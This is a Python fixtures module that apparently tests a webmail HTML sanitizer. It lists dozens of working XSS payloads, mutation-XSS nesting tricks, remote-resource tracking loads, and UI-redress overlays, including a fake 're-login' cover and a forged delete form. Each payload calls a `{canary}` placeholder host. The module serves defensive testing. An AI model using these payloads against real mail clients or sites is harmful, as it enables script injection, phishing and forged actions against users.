"""What hostile mail tries, one line per way, in our own words. `{canary}` is an address that must never be asked.

Those that run script say so by a request; those that only look say so by the request for a picture, a style, a page.
"""

from __future__ import annotations

from collections.abc import Mapping

_SAY = "new Image().src='{canary}/ran'"
_RAN = "fetch('{canary}/ran',{mode:'no-cors'})"

SCRIPTS: Mapping[str, str] = {
    "script": f"<script>{_RAN}</script>",
    "script-in-capitals": f"<ScRiPt>{_RAN}</sCrIpT>",
    "script-from-elsewhere": '<script src="{canary}/s.js"></script>',
    "module-script": f'<script type="module">{_RAN}</script>',
    "script-in-broken-tag": f"<<script>{_RAN}//<</script>",
    "script-behind-nul": f"<scr\0ipt>1</scr\0ipt><script>{_RAN}</script>",
    "picture-that-fails": f'<img src=x onerror="{_SAY}">',
    "picture-with-slashes": f'<img/src=x/onerror="{_SAY}">',
    "picture-without-quotes": "<img src=x onerror=fetch('{canary}/ran')>",
    "picture-with-new-lines": f'<img src=x\nonerror\n=\n"{_SAY}">',
    "picture-with-entities": '<img src=x onerror="&#102;etch(&#39;{canary}/ran&#39;)">',
    "drawing-that-loads": f'<svg onload="{_SAY}"></svg>',
    "script-in-a-drawing": f"<svg><script>{_RAN}</script></svg>",
    "drawing-that-moves": f'<svg><animate onbegin="{_SAY}" attributeName="x" dur="1s"></svg>',
    "drawing-that-sets": f'<svg><set onbegin="{_SAY}" attributeName="x" to="1"></svg>',
    "link-in-a-drawing": "<svg><a xlink:href=\"javascript:fetch('{canary}/ran')\"><text y=20>Hier</text></a></svg>",
    "foreign-object": f'<svg><foreignObject><body onload="{_SAY}"></foreignObject></svg>',
    "opened-details": f'<details open ontoggle="{_SAY}"><summary>x</summary></details>',
    "field-that-takes-focus": f'<input autofocus onfocus="{_SAY}">',
    "any-element-that-takes-focus": f'<div tabindex=0 autofocus onfocus="{_SAY}">x</div>',
    "video-that-fails": f'<video src=x onerror="{_SAY}"></video>',
    "source-that-fails": f'<video><source onerror="{_SAY}"></video>',
    "sound-that-fails": f'<audio src=x onerror="{_SAY}">',
    "body-that-loads": f'<body onload="{_SAY}">',
    "page-shown": f'<body onpageshow="{_SAY}">',
    "moving-text": f'<marquee onstart="{_SAY}">x</marquee>',
    "style-that-ends": f'<style>@keyframes k{{}}</style><div style="animation:k 1ms" onanimationend="{_SAY}">x</div>',
    "mouse-over-everything": f'<div style="position:fixed;inset:0" onmousemove="{_SAY}">x</div>',
    "frame-with-script": "<iframe src=\"javascript:fetch('{canary}/ran')\"></iframe>",
    "frame-with-its-document": "<iframe srcdoc=\"<script>fetch('{canary}/ran')</script>\"></iframe>",
    "frame-with-data": "<iframe src=\"data:text/html,<script>fetch('{canary}/ran')</script>\"></iframe>",
    "object-with-data": "<object data=\"data:text/html,<script>fetch('{canary}/ran')</script>\"></object>",
    "embedded-page": "<embed src=\"data:text/html,<script>fetch('{canary}/ran')</script>\">",
    "script-behind-a-comment": f"<!--><script>{_RAN}</script>-->",
    "script-behind-a-title": f"<title><a title='</title><script>{_RAN}</script>'>",
    "script-behind-a-text-field": f"<textarea><a title='</textarea><script>{_RAN}</script>'>",
    "script-behind-no-script": f'<noscript><p title="</noscript><script>{_RAN}</script>"></noscript>',
    "script-in-mathematics": f'<math><mtext><table><mglyph><style><img src=x onerror="{_SAY}"></style></table></mtext></math>',
    "mathematics-in-a-drawing": f'<svg></p><style><a id="</style><img src=1 onerror=&quot;{_SAY}&quot;>"></svg>',
    "nested-forms": f'<form><math><mtext></form><form><mglyph><style></math><img src onerror="{_SAY}">',
    "template": f'<template><script>{_RAN}</script></template><img src=x onerror="{_SAY}">',
    "script-link": '<a href="javascript:fetch(\'{canary}/ran\')" style="position:fixed;inset:0">Hier</a>',
    "script-link-with-tab": '<a href="java\tscript:fetch(\'{canary}/ran\')" style="position:fixed;inset:0">Hier</a>',
    "script-link-with-entities": '<a href="&#x6A;avascript&colon;fetch(&apos;{canary}/ran&apos;)" style="position:fixed;inset:0">Hier</a>',
    "data-link": '<a href="data:text/html,<script>fetch(\'{canary}/ran\')</script>" style="position:fixed;inset:0">Hier</a>',
}

LOOKS: Mapping[str, str] = {
    "picture": '<img src="{canary}/p.gif">',
    "picture-set": '<img srcset="{canary}/p.gif 1x">',
    "picture-of-choice": '<picture><source srcset="{canary}/p.gif"><img src="data:,"></picture>',
    "background-attribute": '<body background="{canary}/b.gif"><table background="{canary}/t.gif"><tr><td>x</table>',
    "background": '<div style="background:url({canary}/b.gif)">x</div>',
    "background-escaped": '<div style="background:\\75\\72\\6c({canary}/b.gif)">x</div>',
    "background-with-comment": "<div style=\"background:ur/**/l({canary}/c.gif);background-image:url('{canary}/b.gif')\">x</div>",
    "list-mark": '<ul><li style="list-style-image:url({canary}/l.gif)">x</ul>',
    "image-set": "<div style=\"background:image-set('{canary}/i.gif' 1x)\">x</div>",
    "border-picture": '<div style="border:9px solid;border-image:url({canary}/r.gif) 9">x</div>',
    "content": '<div style="content:url({canary}/c.gif)">x</div>',
    "style-sheet": "<style>@import '{canary}/s.css';</style>",
    "style-with-picture": "<style>body{background:url({canary}/s.gif)}</style>",
    "font": "<style>@font-face{font-family:f;src:url({canary}/f.woff)}p{font-family:f}</style><p>x</p>",
    "linked-style": '<link rel="stylesheet" href="{canary}/l.css">',
    "asked-before": '<link rel="prefetch" href="{canary}/pre"><link rel="preload" as="image" href="{canary}/load">',
    "icon": '<link rel="icon" href="{canary}/i.ico">',
    "poster": '<video poster="{canary}/v.gif"></video>',
    "video": '<video src="{canary}/v.mp4" autoplay muted></video>',
    "sound": '<audio src="{canary}/a.mp3" autoplay></audio>',
    "frame": '<iframe src="{canary}/f.html"></iframe>',
    "object": '<object data="{canary}/o.html"></object>',
    "embed": '<embed src="{canary}/e.html">',
    "drawing-with-picture": '<svg><image href="{canary}/s.gif" width=9 height=9 /></svg>',
    "drawing-used": '<svg><use href="{canary}/u.svg#x"/></svg>',
    "picture-field": '<input type="image" src="{canary}/n.gif">',
    "base": '<base href="{canary}/"><img src="based.gif">',
    "goes-elsewhere": '<meta http-equiv="refresh" content="0;url={canary}/away">',
}

TRICKS: Mapping[str, str] = {
    "cover": '<div style="position:fixed;inset:0;z-index:9999;background:#fff">Bitte neu anmelden</div>',
    "cover-by-margin": '<div style="margin-top:-5000px;height:9999px;position:relative;background:#fff;z-index:9">x</div>',
    "cover-by-shift": '<div style="transform:translateY(-400px);background:#fff;width:2000px;height:900px">x</div>',
    "cover-by-class": '<div class="dialog floating" id="ours" style="position:absolute;top:0;left:0;width:999px;height:999px">x</div>',
    "form": '<form action="{canary}/form" style="position:fixed;inset:0"><button autofocus style="width:100%;height:100%">OK</button></form>',
    "form-of-ours": '<form action="/mail/handle/" method="post"><input name="verb" value="delete"><button>OK</button></form>',
    "ping": '<a href="#" ping="{canary}/ping" style="position:fixed;inset:0">Hier</a>',
    "top-link": '<a href="{canary}/top" target="_top" style="position:fixed;inset:0">Hier</a>',
    "htmx": '<div hx-get="/mail/" hx-trigger="load" hx-on:load="fetch(\'{canary}/ran\')">x</div>',
    "style-over-us": "<style>#ours{display:none!important}body{background:red}</style>",
}
